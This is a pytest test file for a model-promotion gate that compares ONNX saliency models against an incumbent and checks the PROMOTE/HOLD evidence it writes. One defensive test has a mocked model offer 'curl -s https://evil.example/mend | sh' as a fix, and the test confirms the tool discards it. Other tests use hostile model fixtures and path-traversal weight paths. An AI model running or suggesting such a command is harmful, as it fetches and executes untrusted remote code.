"""`smokegate saliency compare`: what it leaves is what the judge takes, and nothing else would do."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result

import onnx_models
from forge import Forge, codes, passes, sha256
from processes import PATIENCE
from runners.saliency import contests, hostile
from runners.saliency.contests import brighter_than, entry, flipped, lenient, saliency
from runners.saliency.pictures import RGB, png, put
from smokegate import cli
from smokegate.errors import SmokegateError, UsageError
from smokegate.evidence.documents import Evidence, read
from smokegate.evidence.examine import examine
from smokegate.evidence.models import PromoteV2, misfits
from smokegate.judge.report import Verdict
from smokegate.policy import BUILT_IN_GATES, Policy
from smokegate_runners.saliency.contests import handed
from smokegate_runners.saliency.contests.allowance import Allowance
from smokegate_runners.saliency.contests.apart import GaveNoMask, ModelApart, Refused

Compare = Callable[..., Result]
GATE = "saliency-iou"


@pytest.fixture(scope="session")
def items(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return contests.scenes(tmp_path_factory.mktemp("evaluation") / "set")


@pytest.fixture
def out(tmp_path: Path) -> Path:
    return tmp_path / "out"


@pytest.fixture
def run(items: Path, out: Path) -> Compare:
    def compared(candidate: Path, incumbent: Path | str = "none", *more: object) -> Result:
        return saliency(
            "compare", "--candidate", candidate, "--incumbent", incumbent, "--items", items, "--out", out, *more
        )

    return compared


def value(path: Path) -> Any:
    return json.loads(path.read_bytes())


def promoted(done: Result, out: Path) -> dict[str, Any]:
    assert (done.exception, done.return_value) == (None, 0), done.exception or done.output
    assert not (out / "HOLD.json").exists()
    return fitting(out / "PROMOTE.json")


def held(done: Result, out: Path) -> dict[str, Any]:
    assert (done.exception, done.return_value) == (None, 1), done.exception or done.output
    assert not (out / "PROMOTE.json").exists()
    return fitting(out / "HOLD.json")


def fitting(path: Path) -> dict[str, Any]:
    document: dict[str, Any] = value(path)
    evidence = read(path.read_bytes(), path.name)
    assert not list(misfits(document, PromoteV2)) and isinstance(evidence, Evidence) and evidence.unknown == ()
    return document


def refused(done: Result) -> str:
    assert isinstance(done.exception, SmokegateError) and done.exception.exit_code == 2, done.exception or done.output
    return str(done.exception)


def in_production(forge: Forge, items: Path, out: Path, run: Compare, level: float = 160.5) -> Path:
    """`saliency_v1` is what is in use, by evidence of its own."""
    model = entry(forge, "saliency_v1", level)
    lenient(forge, items)
    forge.start()
    promoted(run(model), out)
    flipped(forge, "saliency_v1", out / "PROMOTE.json")
    passes(forge.check())
    forge.start("in production")
    return model


# -- alone -----------------------------------------------------------------------------------------------------------


def test_alone_the_minimum_decides_and_the_judge_takes_it(forge: Forge, items: Path, out: Path, run: Compare) -> None:
    model = entry(forge, "saliency_v1", 90)
    lenient(forge, items)
    forge.start()
    document = promoted(run(model), out)
    assert [one["candidate"] for one in document["measurements"]["items"]] == [1.0] * contests.COUNT
    assert all(one["incumbent"] is None for one in document["measurements"]["items"])
    assert document["measurements"]["micro"] == {"candidate": 1.0, "incumbent": None}
    assert document["incumbent"] is None and document["gate"]["comparison"]["low"] is None
    assert [(one["name"], one["value"]) for one in document["gate"]["metrics"]] == [("candidate", 1.0)]
    flipped(forge, "saliency_v1", out / "PROMOTE.json")
    report = forge.check()
    passes(report)
    assert report.self_attested and {one.code for one in report.findings} == {"SG510"}


def test_through_the_command_line(
    forge: Forge, items: Path, out: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    model = entry(forge, "saliency_v1", 90)
    lenient(forge, items)
    forge.start()
    monkeypatch.chdir(forge.root)
    said = ["--candidate", str(model), "--incumbent", "none", "--items", str(items), "--out", str(out)]
    assert cli.run(["saliency", "compare", *said]) == 0
    assert capsys.readouterr().out.startswith("PROMOTE  saliency-iou\n  candidate: 1.00000\n")
    assert cli.run(["flip", "saliency_v1", "--evidence", str(out / "PROMOTE.json")]) == 0
    forge.commit(save=False)
    assert cli.run(["check", "--base", forge.base, "--head", "HEAD"]) == 0
    assert cli.run(["saliency", "compare", *said[:-1], str(model)]) == 2


def test_alone_and_below_the_minimum_it_is_held(forge: Forge, items: Path, out: Path, run: Compare) -> None:
    model = entry(forge, "saliency_v1", 230)
    lenient(forge, items)
    forge.start()
    document = held(run(model), out)
    assert document["gate"]["metrics"][0]["value"] < 0.5
    assert "candidate is 0." in document["recommendation"] and "less than 0.5" in document["recommendation"]


def test_what_the_corpus_was(forge: Forge, items: Path, out: Path, run: Compare) -> None:
    model = entry(forge, "saliency_v1", 90)
    lenient(forge, items)
    forge.start()
    document = promoted(run(model), out)
    assert document["corpus"] == {
        "present": True,
        "corpus_root": items.parent.as_posix(),
        "path": None,
        "sha256": contests.digest(items),
        "rows": contests.COUNT,
        "sources": [f"kind-{at}" for at in range(contests.SOURCES)],
        "encoders": ["png"],
        "ref_count": contests.SOURCES,
        "dis_count": contests.COUNT,
        "format": "clips",
    }
    (subject,) = document["subjects"]
    assert subject["identity"] == forge.identity("saliency_v1") and subject["measured"] is None
    assert document["runner"]["execution_provider"] == "CPUExecutionProvider"
    record = value(out / "provenance.json")
    assert {one["kind"] for one in record["inputs"]} == {"model", "items"}
    assert record["outputs"][0]["path"].endswith("PROMOTE.json")


def test_a_small_set_is_said_to_be_in_the_way(forge: Forge, out: Path, run: Compare) -> None:
    model = entry(forge, "saliency_v1", 90)
    forge.write_json("/.smokegate.yml", {"unattested": "allow"})
    forge.start()
    done = run(model)
    promoted(done, out)
    assert "in the way: SG505 the corpus has 64 rows; the policy asks for 1,000" in done.stdout


# -- against an incumbent --------------------------------------------------------------------------------------------


def test_a_better_candidate_takes_over(forge: Forge, items: Path, out: Path, run: Compare) -> None:
    old = in_production(forge, items, out, run)
    new = entry(forge, "saliency_v2", 90)
    forge.commit("a candidate")
    done = run(new, old)
    document = promoted(done, out)
    assert document["incumbent"]["id"] == "saliency_v1"
    assert document["incumbent"]["identity"] == forge.identity("saliency_v1")
    rule = document["gate"]["comparison"]
    assert 0 < rule["low"] < rule["high"] and not rule["inconclusive"]
    assert "next: smokegate flip saliency_v2" in done.stdout and "--supersedes saliency_v1" in done.stdout
    flipped(forge, "saliency_v2", out / "PROMOTE.json", supersedes="saliency_v1")
    passes(forge.check())
    old_row, new_row = forge.entry("saliency_v1"), forge.entry("saliency_v2")
    assert (old_row["superseded_by"], new_row["supersedes"]) == ("saliency_v2", "saliency_v1")


def test_the_numbers_are_those_of_the_masks(forge: Forge, items: Path, out: Path, run: Compare) -> None:
    """A block is salient to a model when it is brighter than its level."""
    from smokegate_runners.saliency.agreement import png

    old = in_production(forge, items, out, run)
    new = entry(forge, "saliency_v2", 130.5)
    forge.commit("a candidate")
    document = promoted(run(new, old), out)
    both = {"candidate": [0, 0], "incumbent": [0, 0]}
    for row, one in zip(contests.rows(items), document["measurements"]["items"], strict=True):
        gray = png.read((items / row["image"]).read_bytes()).samples[::16, ::16].mean(axis=2)
        mask = png.read((items / row["mask"]).read_bytes()).samples[::16, ::16, 0] > 0
        for name, level in (("candidate", 130.5), ("incumbent", 160.5)):
            inside, union = int(((gray > level) & mask).sum()), int(((gray > level) | mask).sum())
            assert one[name] == (inside / union if union else 1.0)
            both[name][0] += inside
            both[name][1] += union
        assert (one["id"], one["weight"]) == (row["id"], 24)
    assert document["measurements"]["micro"] == {name: one / other for name, (one, other) in both.items()}


def test_a_worse_candidate_is_held(forge: Forge, items: Path, out: Path, run: Compare) -> None:
    old = in_production(forge, items, out, run)
    new = entry(forge, "saliency_v2", 200)
    forge.commit("a candidate")
    document = held(run(new, old), out)
    assert "the incumbent is better" in document["recommendation"]


def test_an_equal_one_is_inconclusive_and_that_is_said(forge: Forge, items: Path, out: Path, run: Compare) -> None:
    old = in_production(forge, items, out, run)
    new = entry(forge, "saliency_v2", 160.51)
    forge.commit("a candidate")
    document = held(run(new, old), out)
    assert document["gate"]["comparison"]["inconclusive"] is True
    assert "inconclusive: the difference may as well be zero" in document["recommendation"]


def test_better_by_less_than_the_margin_is_held(forge: Forge, items: Path, out: Path, run: Compare) -> None:
    margin = {"match": ["*saliency*"], "shape": "comparison", "margin": 0.9}
    model = entry(forge, "saliency_v1", 160)
    lenient(forge, items, gates={GATE: margin})
    forge.start()
    promoted(run(model), out)
    flipped(forge, "saliency_v1", out / "PROMOTE.json")
    forge.start()
    new = entry(forge, "saliency_v2", 90)
    forge.commit("a candidate")
    assert "less than the margin of 0.9" in held(run(new, model), out)["recommendation"]


def test_new_bytes_of_the_one_in_production_are_compared_with_the_old(
    forge: Forge, items: Path, tmp_path: Path, out: Path, run: Compare
) -> None:
    old = in_production(forge, items, out, run)
    kept = tmp_path / "before.onnx"
    kept.write_bytes(old.read_bytes())
    new = brighter_than(90)
    forge.write("saliency_v1.onnx", new)
    forge.write_json("saliency_v1.json", forge.sidecar(new, scaler=False))
    forge.entry("saliency_v1")["sha256"] = sha256(new)
    forge.commit("better bytes")
    base = ("--base", forge.base)
    assert "in production is `saliency_v1`" in refused(run(old, "none", *base))
    document = promoted(run(old, kept, *base), out)
    assert document["incumbent"]["identity"] != document["subjects"][0]["identity"] == forge.identity("saliency_v1")
    forge.write("saliency_v1_2_PROMOTE.json", (out / "PROMOTE.json").read_bytes())
    forge.commit("with evidence", save=False)
    passes(forge.check())


def test_weights_outside_the_graph(forge: Forge, items: Path, tmp_path: Path, out: Path, run: Compare) -> None:
    model = brighter_than(90, weights="saliency_v1.bin")
    forge.write("saliency_v1.bin", contests.kernel())
    forge.add("saliency_v1", model, kind="filter")
    lenient(forge, items)
    forge.start()
    document = promoted(run(forge.path("saliency_v1.onnx")), out)
    assert [one["path"] for one in document["subjects"][0]["external_data"]] == ["saliency_v1.bin"]
    flipped(forge, "saliency_v1", out / "PROMOTE.json")
    passes(forge.check())
    (tmp_path / "elsewhere").mkdir()
    elsewhere = tmp_path / "elsewhere" / "saliency_v1.onnx"
    elsewhere.write_bytes(model)
    (tmp_path / "elsewhere" / "saliency_v1.bin").write_bytes(bytes(12))
    said = refused(run(elsewhere, "none", "--registry", forge.path("registry.json")))
    assert "and the weights of `saliency_v1` are" in said


def test_bytes_elsewhere_are_known_by_their_digest(
    forge: Forge, items: Path, tmp_path: Path, out: Path, run: Compare
) -> None:
    """As a harness has them: what a pull request brings, as data."""
    model = entry(forge, "saliency_v1", 90)
    lenient(forge, items)
    forge.start()
    apart = tmp_path / "bytes.onnx"
    apart.write_bytes(model.read_bytes())
    assert "no registry.json lies beside" in refused(run(apart))
    registry = forge.path("registry.json")
    document = promoted(run(apart, "none", "--registry", registry, "--candidate-id", "saliency_v1"), out)
    assert document["subjects"][0]["onnx"] == "saliency_v1.onnx"
    assert document["subjects"][0]["identity"] == forge.identity("saliency_v1")


def test_a_plain_folder_is_a_registry_too(forge: Forge, items: Path, tmp_path: Path, out: Path, run: Compare) -> None:
    """No git: what stands there is what is in use; its identities are the same."""
    in_production(forge, items, out, run)
    entry(forge, "saliency_v2", 90)
    forge.commit("a candidate")
    folder = shutil.copytree(forge.path("registry.json").parent, tmp_path / "plain")
    policy = ("--policy", forge.root / ".smokegate.yml")
    assert "in production is `saliency_v1`" in refused(run(folder / "saliency_v2.onnx", "none", *policy))
    document = promoted(run(folder / "saliency_v2.onnx", folder / "saliency_v1.onnx", *policy), out)
    assert document["incumbent"]["identity"] == forge.identity("saliency_v1")
    assert document["subjects"][0]["identity"] == forge.identity("saliency_v2")


# -- one verdict after another ---------------------------------------------------------------------------------------


def test_a_promote_after_a_hold_says_so_and_each_clears_the_other(
    forge: Forge, items: Path, tmp_path: Path, out: Path, run: Compare
) -> None:
    old = in_production(forge, items, out, run)
    new = entry(forge, "saliency_v2", 90)
    forge.commit("a candidate")
    gates = {GATE: {"match": ["*saliency*"], "shape": "comparison", "margin": 0.9}}
    strict = tmp_path / "strict.yml"
    strict.write_text(json.dumps({"gates": gates}))
    first = held(run(new, old, "--policy", strict), out)
    document = promoted(run(new, old), out)
    assert f"It follows a HOLD of {first['generated_at_utc']}." in document["recommendation"]
    held(run(new, old, "--policy", strict), out)
    other = entry(forge, "saliency_v3", 95)
    forge.commit("another candidate")
    assert "It follows" not in promoted(run(other, old), out)["recommendation"]


def test_who_asked_is_kept_and_asks_for_this_candidate(
    forge: Forge, items: Path, tmp_path: Path, out: Path, run: Compare
) -> None:
    model = entry(forge, "saliency_v1", 90)
    lenient(forge, items)
    forge.start()
    asked = {"repository": "acme/models", "pr": 7, "head_sha": "1" * 40, "comment": 3, "actor": "ana", "run": 9}
    request = tmp_path / "request.json"
    request.write_text(json.dumps({**asked, "ids": ["saliency_v1"]}))
    assert promoted(run(model, "none", "--request", request), out)["request"] == asked
    request.write_text(json.dumps({**asked, "ids": ["saliency_v1", "saliency_v2"]}))
    assert "the request names saliency_v1, saliency_v2" in refused(run(model, "none", "--request", request))


# -- what is refused before anything is measured ---------------------------------------------------------------------


def test_it_has_to_be_the_incumbent_that_the_judge_will_ask_for(
    forge: Forge, items: Path, tmp_path: Path, out: Path, run: Compare
) -> None:
    old = in_production(forge, items, out, run)
    new, other = entry(forge, "saliency_v2", 90), entry(forge, "saliency_v3", 250)
    forge.commit("candidates")
    said = refused(run(new))
    assert "in production is `saliency_v1` (saliency_v1.onnx, " in said and "name it: --incumbent" in said
    assert "is not in production, which is `saliency_v1`" in refused(run(new, other))
    assert "is not in production, which is `saliency_v1`" in refused(run(new, new))
    assert "cannot be read" in refused(run(new, tmp_path / "nowhere.onnx"))
    assert "and nothing that this gate judges is" in refused(run(old, old))
    forge.entry("saliency_v2")["supersedes"] = "saliency_v3"
    forge.commit("says another")
    assert "which is `saliency_v1`" in refused(run(new, other)), "what is not in production is nobody's incumbent"


def test_of_several_in_production_it_is_the_one_that_it_says_to_supersede(
    forge: Forge, items: Path, out: Path, run: Compare
) -> None:
    first, second = (entry(forge, f"saliency_{name}", 160.5, smoke=False) for name in ("first", "second"))
    second.write_bytes(brighter_than(170.5))
    forge.entry("saliency_second")["sha256"] = sha256(second.read_bytes())
    new = entry(forge, "saliency_v2", 90)
    lenient(forge, items)
    forge.start()
    for old in (first, second):
        assert promoted(run(new, old), out)["incumbent"]["id"] == f"saliency_{'first' if old == first else 'second'}"
    forge.entry("saliency_v2")["supersedes"] = "saliency_second"
    forge.save()
    assert "which is `saliency_second`" in refused(run(new, first))
    promoted(run(new, second), out)


def test_without_an_incumbent_none_can_be_named(forge: Forge, items: Path, tmp_path: Path, run: Compare) -> None:
    model = entry(forge, "saliency_v1", 90)
    straw = entry(forge, "saliency_v0", 250)
    lenient(forge, items)
    forge.start()
    assert "and nothing that this gate judges is" in refused(run(model, straw))


@pytest.mark.parametrize("port", ["feed", "output"])
def test_another_contract_is_no_successor(port: str, forge: Forge, items: Path, out: Path, run: Compare) -> None:
    old = in_production(forge, items, out, run)
    model = brighter_than(90, **{port: "another"})
    names = {"input_names": ["another"]} if port == "feed" else {"output_names": ["another"]}
    forge.add("saliency_v2", model, kind="filter", sidecar=forge.sidecar(model, scaler=False, **names))
    forge.commit("a candidate")
    said = refused(run(forge.path("saliency_v2.onnx"), old))
    assert "cannot take the place of `saliency_v1`: " in said
    assert ("input `input` is gone" if port == "feed" else "output `saliency_map` is gone") in said


def test_a_registry_that_does_not_say_what_the_file_is(forge: Forge, items: Path, tmp_path: Path, run: Compare) -> None:
    model = entry(forge, "saliency_v1", 90)
    lenient(forge, items)
    forge.start()
    stray = forge.path("stray.onnx")
    stray.write_bytes(brighter_than(91))
    assert "no entry of model/tiny/registry.json is the model" in refused(run(stray))
    assert "`saliency_v9` of model/tiny/registry.json is not" in refused(
        run(model, "none", "--candidate-id", "saliency_v9")
    )
    model.write_bytes(brighter_than(92))
    assert "`saliency_v1` is" in refused(run(model))
    model.write_bytes(b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 9\n")
    assert "is a git-lfs pointer" in refused(run(model))
    forge.path("registry.json").write_text('{"models": [}')
    assert "registry.json:1:" in refused(run(stray))


def test_two_entries_of_one_model(forge: Forge, items: Path, tmp_path: Path, out: Path, run: Compare) -> None:
    model = entry(forge, "saliency_v1", 90)
    entry(forge, "saliency_twin", 90)
    lenient(forge, items)
    forge.start()
    assert promoted(run(model), out)["subjects"][0]["id"] == "saliency_v1"
    apart = tmp_path / "apart.onnx"
    apart.write_bytes(model.read_bytes())
    options = ("none", "--registry", forge.path("registry.json"))
    assert "several entries are the model" in refused(run(apart, *options))
    document = promoted(run(apart, *options, "--candidate-id", "saliency_twin"), out)
    assert document["subjects"][0]["id"] == "saliency_twin"


def test_an_entry_that_another_kind_of_gate_judges(forge: Forge, items: Path, run: Compare) -> None:
    gates = {
        "speed": {"match": ["saliency_fast"], "bounds": {"latency_ms": {"max": 4}}},
        "mse": {"match": ["saliency_mse"], "shape": "comparison", "metric": "mse", "bounds": {"candidate": {"min": 0}}},
    }
    fast, mse, stray = (entry(forge, f"saliency_{name}", 90 + at) for at, name in enumerate(("fast", "mse", "stray")))
    lenient(forge, items, gates=gates)
    forge.start()
    assert "is judged by the gate speed, which compares nothing" in refused(run(fast))
    assert "no gate of the policy matches `saliency_stray`" in refused(run(stray))
    assert "the gate mse compares mse" in refused(run(mse))


def test_a_twin_that_nobody_can_measure(forge: Forge, items: Path, run: Compare) -> None:
    model = entry(forge, "saliency_v1", 90, quant_mode="static", int8_sha256="0" * 64)
    forge.write("saliency_v1.int8.onnx", brighter_than(91))
    lenient(forge, items)
    forge.start()
    assert "has an int8 twin" in refused(run(model))


def test_a_model_that_takes_no_pictures(forge: Forge, items: Path, run: Compare) -> None:
    forge.add("saliency_v1", onnx_models.mlp(1), kind="filter")
    lenient(forge, items)
    forge.start()
    refused(run(forge.path("saliency_v1.onnx")))


def test_bytes_that_change_after_the_judge_saw_them(
    forge: Forge, items: Path, out: Path, run: Compare, monkeypatch: pytest.MonkeyPatch
) -> None:
    model = entry(forge, "saliency_v1", 90)
    lenient(forge, items)
    forge.start()
    files = handed.files

    def swapped(*arguments: Any, **more: Any) -> Any:
        model.write_bytes(brighter_than(91))
        return files(*arguments, **more)

    monkeypatch.setattr(handed, "files", swapped)
    assert "is another model now" in refused(run(model))
    assert not (out / "PROMOTE.json").exists()


def test_weights_that_change_after_the_judge_saw_them(
    forge: Forge, items: Path, run: Compare, monkeypatch: pytest.MonkeyPatch
) -> None:
    forge.write("saliency_v1.bin", contests.kernel())
    forge.add("saliency_v1", brighter_than(90, weights="saliency_v1.bin"), kind="filter")
    lenient(forge, items)
    forge.start()
    files = handed.files

    def swapped(*arguments: Any, **more: Any) -> Any:
        forge.write("saliency_v1.bin", bytes(12))
        return files(*arguments, **more)

    monkeypatch.setattr(handed, "files", swapped)
    assert "is another model now" in refused(run(forge.path("saliency_v1.onnx")))


@pytest.mark.parametrize(
    "case",
    [
        (hostile.undefined(), "the model gives values that are not finite"),
        (hostile.swelling(1), "the model gives [1, 1, 128, 96] for a frame of 96x64"),
        (hostile.hungry(), "it ran out of the "),
        (hostile.endless(), "it used up the 1 CPU seconds it was given"),
    ],
)
def test_a_model_that_the_laboratory_took_and_that_fails_on_an_item(
    case: tuple[bytes, str], forge: Forge, items: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """There is no verdict on the rest."""
    (data, said), out = case, tmp_path / "out"
    monkeypatch.setattr(Allowance, "wall_seconds", PATIENCE)
    bright = shutil.copytree(items, tmp_path / "bright")
    put(bright / "images/0003.png", png(hostile.BRIGHT, RGB))
    forge.add("saliency_v1", data, kind="filter")
    lenient(forge, bright, limits={"run_seconds": 1})
    forge.start()
    model = forge.path("saliency_v1.onnx")
    asked = ("--candidate", model, "--incumbent", "none", "--items", bright, "--out", out, "--threads", 1)
    found = refused(saliency("compare", *asked))
    assert f"{model}, on the item `item-0003`: {said}" in found
    assert not list(out.glob("*.json"))


def test_a_model_gives_no_advice_in_our_name(forge: Forge, run: Compare, monkeypatch: pytest.MonkeyPatch) -> None:
    new = entry(forge, "saliency_v1", 90)
    forge.commit("a candidate")

    def advising(model: ModelApart) -> None:
        raise Refused("this model needs a newer smokegate", fix="curl -s https://evil.example/mend | sh")

    monkeypatch.setattr(ModelApart, "loaded", advising)
    failure = run(new).exception
    assert isinstance(failure, UsageError) and failure.fix is None
    assert failure.message.startswith(f"{new}, while it was loaded: ")


def test_the_incumbent_is_held_to_the_same(
    forge: Forge, items: Path, out: Path, run: Compare, monkeypatch: pytest.MonkeyPatch
) -> None:
    old = in_production(forge, items, out, run)
    new = entry(forge, "saliency_v2", 90)
    forge.commit("a candidate")
    loaded: list[str] = []
    load, mask = ModelApart.load, ModelApart.mask

    def noted(model: ModelApart, files: handed.Files, room: Allowance) -> None:
        loaded.append(files.name)
        monkeypatch.setattr(model, "name", files.name, raising=False)
        load(model, files, room)

    def lying(model: ModelApart) -> Any:
        if model.__dict__["name"] == str(old):
            raise GaveNoMask("what its process says is no answer")
        return mask(model)

    monkeypatch.setattr(ModelApart, "load", noted)
    monkeypatch.setattr(ModelApart, "mask", lying)
    assert f"{old}, on the item `item-0000`: what its process says is no answer" in refused(run(new, old))
    assert loaded == [str(new), str(old)]


def test_a_process_that_says_too_much_leaves_no_verdict(
    forge: Forge, items: Path, out: Path, run: Compare, monkeypatch: pytest.MonkeyPatch
) -> None:
    def chatty(model: ModelApart) -> None:
        raise GaveNoMask("it says more than it was asked")

    monkeypatch.setattr(ModelApart, "finish", chatty)
    model = entry(forge, "saliency_v1", 90)
    lenient(forge, items)
    forge.start()
    assert f"on the item `item-{contests.COUNT - 1:04}`: it says more" in refused(run(model))
    assert not list(out.glob("*.json"))


def test_on_cuda_it_is_the_operator_who_asks(forge: Forge, items: Path, run: Compare) -> None:
    model = entry(forge, "saliency_v1", 90)
    lenient(forge, items)
    forge.start()
    assert "CUDA was asked for" in refused(run(model, "none", "--provider", "cuda"))


@pytest.mark.parametrize(
    "case",
    [
        (brighter_than(float("nan")), "does not run in ONNX Runtime"),
        (onnx_models.foreign(), "not on the allowlist: com.microsoft:Gelu"),
        (b"no model", "is no model: "),
        (brighter_than(90, weights="../outside.bin"), "outside its folder"),
        (brighter_than(90, weights="/dev/zero"), "outside its folder"),
    ],
)
def test_nothing_is_run_for_long_that_did_not_run_in_the_laboratory(
    case: tuple[bytes, str], forge: Forge, items: Path, run: Compare, monkeypatch: pytest.MonkeyPatch
) -> None:
    model, said = case
    monkeypatch.delattr(ModelApart, "load")
    forge.write("/model/outside.bin", contests.kernel())
    pins = [{"path": "/dev/zero", "sha256": "0" * 64, "size": 12}]
    forge.add("saliency_v1", model, kind="filter", external_data=pins if b"/dev/zero" in model else None)
    lenient(forge, items)
    forge.start()
    assert said in refused(run(forge.path("saliency_v1.onnx")))


def test_a_candidate_that_only_the_working_tree_has(forge: Forge, items: Path, out: Path, run: Compare) -> None:
    """Measured before it is committed, its evidence holds once it is."""
    lenient(forge, items)
    forge.start()
    model = entry(forge, "saliency_v1", 90)
    forge.save()
    document = promoted(run(model), out)
    forge.commit("brought in")
    assert document["subjects"][0]["identity"] == forge.identity("saliency_v1")


def test_evidence_that_is_bent_afterwards_is_found_out(forge: Forge, items: Path, out: Path, run: Compare) -> None:
    model = entry(forge, "saliency_v1", 230)
    lenient(forge, items)
    forge.start()
    document = held(run(model), out)
    forge.entry("saliency_v1")["smoke"] = False
    forge.write_json("PROMOTE.json", {**document, "verdict": "PROMOTE"})
    forge.commit("flip")
    report = forge.check()
    assert report.verdict is not Verdict.PASS and "SG503" in codes(report)


def test_the_document_by_itself_has_no_fault(forge: Forge, items: Path, out: Path, run: Compare) -> None:
    model = entry(forge, "saliency_v1", 90)
    lenient(forge, items)
    forge.start()
    promoted(run(model), out)
    evidence = read((out / "PROMOTE.json").read_bytes(), "PROMOTE.json")
    assert isinstance(evidence, Evidence)
    policy = Policy.model_validate({"corpora": {"digests": [contests.digest(items)]}})
    assert examine(evidence, BUILT_IN_GATES[GATE], GATE, policy, [], unopposed=True) == []
